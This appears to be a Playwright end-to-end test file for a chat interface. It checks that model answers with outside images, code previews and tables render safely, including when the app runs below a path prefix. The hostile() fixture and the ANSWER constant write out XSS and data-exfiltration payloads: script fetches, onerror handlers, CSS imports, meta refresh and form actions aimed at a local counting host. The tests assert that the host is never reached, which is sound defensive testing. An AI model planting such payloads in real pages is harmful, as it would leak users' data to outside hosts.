"""What an answer shows leads nowhere by itself; and the app works below a path."""

import re
import socketserver
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.e2e.conftest import ask, picture, provokes, visitor
from tests.processes import Process, konsilium, running

AWAY = "https://pictures.invalid/cat.png?q=what-was-said"
FILM = "https://films.invalid/cat.mp4?q=what-was-said"
ANSWER = f"""Here: ![a cat]({AWAY}), ![by name][cat], ![a film]({FILM})

[cat]: {AWAY}

<img src="{AWAY}&raw" onerror="document.title='ran'"> <script>document.title = 'ran'</script>

[a link](https://links.invalid/x), [no link](javascript:document.title='ran')"""
OTHERWISE = f"""<svg><image href="{AWAY}&svg"/></svg> <p style="background: url({AWAY}&style)">x</p> <img srcset="{AWAY}&set 2x">
<link rel="stylesheet" href="{AWAY}&link"> <video poster="{AWAY}&poster" src="{FILM}"></video> <style>@import url({AWAY}&import)</style>
<iframe src="{AWAY}&frame"></iframe> <object data="{AWAY}&object"></object>"""
BELOW = "/team/chat"


def test_a_picture_of_elsewhere_is_a_place_to_click_and_nothing_is_asked_for(page: Page) -> None:
    ask(page, ANSWER)
    image = page.locator("img[data-away]")
    expect(image.first).to_be_visible()
    expect(image.first).to_have_attribute("data-away", AWAY)
    expect(image.first).to_have_attribute("alt", re.compile(re.escape(AWAY)))
    expect(page.get_by_role("link", name="a link", exact=True).first).to_be_visible()
    film = page.locator(f'img[data-away="{FILM}"]').first
    expect(film).to_have_attribute("alt", re.compile("видео.*" + re.escape(FILM)))
    expect(page.locator("video").first).to_be_hidden()
    assert page.locator("video[src]").count() == 0
    assert page.locator('a[href^="javascript"]').count() == 0
    assert page.evaluate("document.title") != "ran"
    picture(page, "picture-of-elsewhere")
    around = (
        page.locator("[data-radix-aspect-ratio-wrapper]").filter(has=image).first.bounding_box()
    )
    assert around is not None
    assert around["height"] < 80, "no empty room where a picture would have been"
    page.evaluate("window.open = (url, ...more) => { window.opened = [url, ...more]; }")
    image.first.press("Enter")
    assert page.evaluate("window.opened") == [AWAY, "_blank", "noopener,noreferrer"]
    ask(page, OTHERWISE)
    expect(page.locator(".ai-message").last).to_contain_text("&object")


@pytest.fixture(scope="module")
def below(tmp_path_factory: pytest.TempPathFactory, ollama: Process) -> Iterator[Process]:
    """The app below a path, as behind a proxy that has others beside it."""
    folder = tmp_path_factory.mktemp("below")
    variables = {"OLLAMA_HOST": ollama.url, "MODEL_NAME": "ollama/echo"}
    process = konsilium(folder, **variables, CHAINLIT_ROOT_PATH=BELOW)
    process.ready = f"{BELOW}/"
    with running(process):
        yield process


@pytest.fixture
def page_below(chromium: Browser, below: Process) -> Iterator[Page]:
    """A page on which nothing of our own was missing."""
    missing: list[str] = []
    for page in visitor(chromium, f"{below.url}{BELOW}/", language="en-US"):
        page.on(
            "response",
            lambda answer: (
                missing.append(f"{answer.status} {answer.url}") if answer.status >= 400 else None
            ),
        )
        page.reload()
        yield page
    assert missing == []


def test_below_a_path_a_question_is_answered_and_found_again_by_its_address(
    page_below: Page,
) -> None:
    page = page_below
    ask(page, "Hello below")
    expect(page.locator(".ai-message").get_by_text("Hello below").first).to_be_visible()
    page.wait_for_url(f"**{BELOW}/thread/**")
    picture(page, "below-a-path")
    page.reload()
    expect(page.locator(".ai-message").get_by_text("Hello below").first).to_be_visible()


def test_below_a_path_the_headers_links_lead_below_it(page_below: Page) -> None:
    page = page_below
    links = page.locator('a[href*="/dashboard"], a[href*="/knowledge"]')
    expect(links.first).to_be_visible()
    for address in links.evaluate_all("all => all.map(one => one.getAttribute('href'))"):
        assert address.startswith(BELOW)
        answer = page.request.get(f"{page.url.split(BELOW)[0]}{address}")
        assert answer.status == 200


class Counter(socketserver.ThreadingTCPServer):
    """A host of this machine that counts who knocks, whatever they ask for."""

    daemon_threads = True

    def __init__(self) -> None:
        self.knocks = 0
        super().__init__(("127.0.0.1", 0), socketserver.BaseRequestHandler)
        self.url = f"http://127.0.0.1:{self.server_address[1]}"

    def verify_request(self, *_: object) -> bool:
        self.knocks += 1
        return False


@pytest.fixture
def host() -> Iterator[Counter]:
    with Counter() as counter:
        threading.Thread(target=counter.serve_forever, daemon=True).start()
        yield counter
        counter.shutdown()


def hostile(host: str) -> dict[str, str]:
    """What a model could write to carry words away, by the language of its block."""
    page = f"""<!doctype html><html><head><base href="{host}/"><meta http-equiv="refresh" content="0;url={host}/refresh">
<link rel="stylesheet" href="{host}/link.css"><link rel="preconnect" href="{host}"><link rel="prefetch" href="{host}/p">
<style>@import url({host}/import.css); body {{ background: url({host}/bg.png) }} @font-face {{ font-family: f; src: url({host}/f.woff) }}</style></head>
<body background="{host}/body.png" style="font-family: f"><h1>A safe page</h1><img src="{host}/img.png" srcset="{host}/set.png 2x"><iframe src="{host}/frame"></iframe>
<object data="{host}/object"></object><embed src="{host}/embed"><video src="{host}/video" poster="{host}/poster" autoplay></video>
<p style="background-image: url({host}/attr.png); cursor: url({host}/cursor.cur), auto">x</p><picture><source srcset="{host}/source.webp"><img src="data:,"></picture>
<input type="image" src="{host}/input.png"><audio src="{host}/audio" autoplay></audio><table background="{host}/table.png"><tr><td>y</td></tr></table>
<form action="{host}/form"><input name="q" value="words"><button>Send</button></form><a id="away" href="{host}/a" ping="{host}/ping">A link</a>
<script>parent.document.title = "ran"; fetch("{host}/fetch"); new Image().src = "{host}/image"; location = "{host}/go"</script>
<img src="data:," onerror="fetch('{host}/onerror')"></body></html>"""
    svg = f"""<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 120 60"><style>@import url({host}/svg.css);</style>
<image href="{host}/image.png" width="9" height="9"/><image xlink:href="{host}/xlink.png" width="9" height="9"/>
<filter id="f"><feImage href="{host}/fe.png"/></filter><rect width="9" height="9" fill="url({host}/fill.svg#p)" filter="url(#f)" style="mask: url({host}/mask.svg#m)"/><use href="{host}/use.svg#a"/><script>fetch("{host}/svg")</script>
<a href="{host}/svg-a"><text id="seen" x="9" y="30" onclick="fetch('{host}/click')">A safe picture</text></a></svg>"""
    mermaid = f"""%%{{init: {{"themeCSS": "@import url({host}/m.css);", "securityLevel": "loose"}}}}%%
flowchart LR
  A["<img src='{host}/node.png' onerror='fetch(1)'> First"] --> B[Second]
  click B href "{host}/click"
"""
    return {"html": page, "svg": svg, "mermaid": mermaid}


@pytest.mark.parametrize("language", ["html", "svg", "mermaid"])
def test_what_an_answer_describes_is_shown_when_asked_for_and_reaches_nobody(
    page: Page, host: Counter, language: str
) -> None:
    provokes(
        page, "violates the following Content Security Policy", "Blocked form", "@import rules"
    )
    ask(page, f"```{language}\n{hostile(host.url)[language]}\n```")
    block = page.locator(".ai-message .bg-card").filter(has=page.locator("[data-k-lines]"))
    tab = block.get_by_role("tab", name="Просмотр")
    expect(tab).to_be_visible()
    expect(page.locator(".ai-message iframe")).to_have_count(0)
    tab.click()
    frame = block.locator("iframe")
    expect(frame).to_have_attribute("sandbox", "")
    words = {"html": "A safe page", "svg": "A safe picture", "mermaid": "Second"}[language]
    seen = block.frame_locator("iframe").get_by_text(words)
    expect(seen).to_be_visible(timeout=60_000)
    if language == "html":
        block.frame_locator("iframe").get_by_text("A link").click()
        block.frame_locator("iframe").get_by_role("button", name="Send").click()
    else:
        seen.click()
    expect(seen).to_be_visible()
    picture(page, f"preview-{language}")
    block.get_by_role("tab", name="Код").click()
    expect(frame).to_have_count(0)
    expect(block.locator("code")).to_contain_text(words)
    assert page.evaluate("document.title") != "ran"
    assert page.evaluate(
        "() => fetch('/diagrams').then((a) => a.headers.get('content-security-policy'))"
    ).startswith("sandbox allow-scripts; default-src 'none'")
    assert host.knocks == 0


SHEETS = "\n".join(
    (
        "| Товар | Цена |",
        "|---|---|",
        '| Чай "Ассам" | 42 |',
        r"| a \| b | \(x^2\) |",
        "",
        "```csv",
        "name;note",
        'Ann;"one, ""two"""',
        "Bob;three",
        "```",
    )
)


def test_tables_and_csv_are_copied_as_other_programs_take_them(page: Page) -> None:
    ask(page, SHEETS)
    answer = page.locator(".ai-message")
    expect(answer.locator("[data-k-lines='3']")).to_be_visible()
    page.evaluate(
        "() => Object.defineProperty(navigator, 'clipboard', { configurable: true,"
        " value: { writeText: async (text) => { (window.copied ??= []).push(text) } } })"
    )
    copies = answer.get_by_role("button", name="Скопировать таблицу")
    expect(copies).to_have_count(2)
    for place in (0, 1):
        for form in ("Для Excel", "CSV", "Markdown"):
            answer.locator(".k-copy-table").nth(place).click()
            page.locator("#k-table-menu").get_by_role("button", name=form).click()
            expect(page.locator("#k-table-menu")).to_be_hidden()
    picture(page, "tables")
    page.wait_for_function("() => window.copied?.length === 6")
    assert page.evaluate("() => copied") == [
        'Товар\tЦена\n"Чай ""Ассам"""\t42\na | b\t\\( x^2 \\)',
        'Товар,Цена\n"Чай ""Ассам""",42\na | b,\\( x^2 \\)',
        '| Товар | Цена |\n| --- | --- |\n| Чай "Ассам" | 42 |\n| a \\| b | \\( x^2 \\) |',
        'name\tnote\nAnn\t"one, ""two"""\nBob\tthree',
        'name,note\nAnn,"one, ""two"""\nBob,three',
        '| name | note |\n| --- | --- |\n| Ann | one, "two" |\n| Bob | three |',
    ]
    block = answer.locator(".bg-card").filter(has=page.locator("[data-k-lines]"))
    block.get_by_role("tab", name="Просмотр").click()
    expect(block.get_by_role("cell", name='one, "two"')).to_be_visible()
    expect(block.locator(".k-preview-note")).to_have_count(0)
    block.get_by_role("tab", name="Код").click()
    wrap = block.get_by_role("button", name="Переносить длинные строки")
    wrap.click()
    expect(wrap).to_have_attribute("aria-pressed", "true")
    expect(block.locator("code")).to_have_css("white-space", "pre-wrap")


def test_of_a_long_csv_so_much_is_drawn_as_one_looks_at_and_the_rest_is_counted(page: Page) -> None:
    rows = "\n".join(f"{number},row {number}" for number in range(1, 1202))
    ask(page, f"```csv\nnumber,name\n{rows}\n```")
    block = page.locator(".ai-message .bg-card").filter(has=page.locator("[data-k-lines='1202']"))
    block.get_by_role("tab", name="Просмотр").click()
    expect(block.locator(".k-sheet tbody tr")).to_have_count(200)
    expect(block.locator(".k-preview-note")).to_contain_text(re.compile(r"Ещё 1\s001 строка"))
    picture(page, "long-csv")
